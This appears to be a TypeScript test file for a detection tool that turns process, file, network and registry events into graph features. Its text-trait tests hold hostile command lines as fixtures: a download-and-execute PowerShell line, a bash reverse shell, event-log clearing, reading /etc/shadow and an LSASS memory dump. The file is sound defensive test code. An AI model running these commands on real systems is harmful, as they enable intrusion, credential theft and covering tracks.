import { FEATURES, NODE_TYPES } from '../contracts/graph.ts';
import { widthOf } from './feature-table.ts';
import { FEATURE_TABLE, featureSchema, featureTableMarkdown } from './features.ts';
import { FILE_OPS, FILE_TABLE } from './features-file.ts';
import { NETWORK_OPS, NETWORK_TABLE } from './features-network.ts';
import { PROCESS_PLACES } from './features-process.ts';
import { REGISTRY_OPS, REGISTRY_TABLE } from './features-registry.ts';
import { SCRIPT_OPS, SCRIPT_TABLE } from './features-script.ts';
import { SYSCALL_OPS, SYSCALL_TABLE } from './features-syscall.ts';
import { eventAt, graphOf } from './graph-fixtures.ts';
import { scriptsOf } from './scripts-of.ts';
import { TEXT_TABLE, writeText } from './text-features.ts';

test.each(
  Object.entries(FEATURE_TABLE).flatMap(([platform, tables]) =>
    Object.entries(tables).map(([type, table]) => [`${type} on ${platform}`, table] as const),
  ),
)('the table of %s fits a node and names each feature once', (_, table) => {
  expect(widthOf(table)).toBeLessThanOrEqual(FEATURES);
  expect(new Set(table.map(({ name }) => name)).size).toBe(table.length);
  for (const { unit, reason } of table) expect(unit.length * reason.length).toBeGreaterThan(0);
});

test.each([
  [FILE_TABLE, FILE_OPS],
  [SCRIPT_TABLE, SCRIPT_OPS],
  [NETWORK_TABLE, NETWORK_OPS],
  [REGISTRY_TABLE, REGISTRY_OPS],
  [SYSCALL_TABLE, SYSCALL_OPS],
])('a table has a place for each operation of its type (%#)', (table, operations) => {
  expect(table.find(({ name }) => name === 'operations')).toMatchObject({ width: operations.length });
});

test('featureSchema() differs between platforms and is stable', () => {
  expect(featureSchema('windows')).toMatch(/^[0-9a-f]{16}$/);
  expect(featureSchema('windows')).toBe(featureSchema('windows'));
  expect(featureSchema('windows')).not.toBe(featureSchema('linux'));
});

test('featureTableMarkdown() has a section for every node type', () => {
  for (const type of [...NODE_TYPES.windows, ...NODE_TYPES.linux])
    expect(featureTableMarkdown()).toMatch(new RegExp(`^## ${type}`, 'm'));
});

function traits(text: string): readonly string[] {
  const out = new Float32Array(TEXT_TABLE.length);
  writeText(out, 0, text);
  return TEXT_TABLE.filter((_, place) => out[place] === 1).map(({ name }) => name);
}

test.each([
  ['powershell -nop -w hidden -enc SQBFAFgAIABhAGIAYwBkAGUAZgBnAA==', ['textEncoded', 'textHidden']],
  ["IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')", ['textInline', 'textDownload']],
  ['bash -i >& /dev/tcp/10.1.2.3/4444 0>&1', ['textSocket', 'textAddress']],
  ['schtasks /create /tn x /tr c:\\x.exe', ['textPersistence']],
  ['wevtutil cl Security', ['textDefence']],
  ['cat /etc/shadow', ['textSecrets']],
  ['rundll32 comsvcs.dll, MiniDump 640 c:\\o.dmp full', ['textSecrets']],
  ['net group "domain admins" /domain', ['textDiscovery']],
])('writeText() sees what %s is after', (text, expected) => {
  expect(traits(text)).toEqual(expect.arrayContaining(expected));
});

test.each([
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en',
  '/usr/bin/gcc -O2 -o main main.c',
])('writeText() sees nothing in %s', (text) => {
  expect(traits(text)).toEqual([]);
});

test('scriptsOf() asks only shells and interpreters', () => {
  expect(scriptsOf('linux', '/usr/bin/python3.11', 'python3.11 /srv/job.py --fast')).toEqual([
    'path:/srv/job.py',
  ]);
  expect(scriptsOf('linux', '/bin/bash', "bash -c 'id; uname -a'")).toEqual(['inline:id; uname -a']);
  expect(scriptsOf('linux', '/usr/bin/vim', 'vim /srv/job.py')).toEqual([]);
  expect(scriptsOf('windows', 'C:\\x\\cmd.exe', 'cmd /c whoami')).toEqual(['inline:whoami']);
});

test('a shell begun by an office program, unlike one begun by the desktop, has an odd parent', () => {
  const start = (parent: string) =>
    graphOf('windows', [
      eventAt('windows', 1, 'process_create', {
        process_id: 8,
        image: 'C:\\Windows\\System32\\cmd.exe',
        parent_process_id: 3,
        parent_image: parent,
      }),
    ]);
  const odd = (parent: string) => start(parent).features[FEATURES + PROCESS_PLACES.windows.oddParent];
  expect(odd('C:\\Office16\\EXCEL.EXE')).toBe(1);
  expect(odd('C:\\Windows\\explorer.exe')).toBe(0);
});

test('on Linux only the change to root counts, not being root', () => {
  const child = (parentUser: string) => {
    const graph = graphOf('linux', [
      eventAt('linux', 1, 'process_create', { process_id: 5, image: '/bin/sh', user_id: parentUser }),
      eventAt('linux', 2, 'process_create', {
        process_id: 6,
        parent_process_id: 5,
        image: '/bin/id',
        user_id: '0',
      }),
    ]);
    return graph.features[FEATURES + PROCESS_PLACES.linux.privilege];
  };
  expect(child('0')).toBe(0);
  expect(child('1000')).toBe(1);
});
